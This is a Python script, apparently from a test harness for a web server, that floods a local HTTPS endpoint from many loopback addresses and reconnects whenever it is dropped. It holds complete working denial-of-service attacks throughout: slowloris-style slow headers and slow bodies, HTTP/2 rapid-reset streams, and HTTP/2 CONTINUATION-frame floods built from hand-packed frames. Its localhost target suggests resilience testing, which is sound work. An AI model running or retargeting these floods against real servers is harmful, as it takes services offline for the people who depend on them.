"""Attackers: each floods in one way until told to end, from a hundred addresses, and comes again when it is thrown out.

    attack.py (slow-heads|slow-bodies|resets|continuations) PORT HOST COOKIE
"""
import select, socket, ssl, struct, sys, threading, time

from machine import raise_limits

KIND, PORT, HOST, COOKIE = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
SLOW, FAST = 1000, 4


def dial(nth, protocol):
    tls = ssl._create_unverified_context()
    tls.set_alpn_protocols([protocol])
    stream = socket.create_connection(("127.0.0.1", PORT), 20, (f"127.0.{1 + nth % 100}.{1 + nth // 100}", 0))
    return tls.wrap_socket(stream, server_hostname=HOST)


def slow():
    """A thousand connections that each send a byte a second."""
    begin = f"GET / HTTP/1.1\r\nHost: {HOST}:{PORT}\r\nX-Slow: "
    if KIND == "slow-bodies":
        begin = f"PUT /take HTTP/1.1\r\nHost: {HOST}:{PORT}\r\nCookie: {COOKIE}\r\nContent-Length: 1000000\r\n\r\n"
    held = {}
    while True:
        began = time.monotonic()
        for nth in range(SLOW):
            try:
                if nth not in held:
                    held[nth] = dial(nth, "http/1.1")
                    held[nth].sendall(begin.encode())
                held[nth].sendall(b"x")
            except OSError:
                held.pop(nth, None)
        time.sleep(max(0.0, 1 - (time.monotonic() - began)))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def field(name, value):
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def fast(nth):
    """Streams that are begun and reset at once, or one head that never ends."""
    head = field(b":method", b"GET") + field(b":scheme", b"https") + field(b":path", b"/") + field(b":authority", f"{HOST}:{PORT}".encode())
    while True:
        try:
            stream = dial(nth, "h2")
            stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            at = 1
            while True:
                if KIND == "resets":
                    stream.sendall(b"".join(frame(1, 5, one, head) + frame(3, 0, one, b"\0\0\0\x08") for one in range(at, at + 200, 2)))
                    at += 200
                elif at == 1:
                    stream.sendall(frame(1, 0, 1, head))
                    at = 2
                else:
                    stream.sendall(frame(9, 0, 1, field(b"x-more", b"y" * 100) * 20) * 20)
                while select.select([stream], [], [], 0)[0]:
                    if not stream.recv(65536):
                        raise OSError("thrown out")
        except OSError:
            time.sleep(0.01)


raise_limits()
if KIND.startswith("slow"):
    threading.Thread(target=slow, daemon=True).start()
else:
    for nth in range(FAST):
        threading.Thread(target=fast, args=(nth,), daemon=True).start()
print("begun", flush=True)
sys.stdin.read()
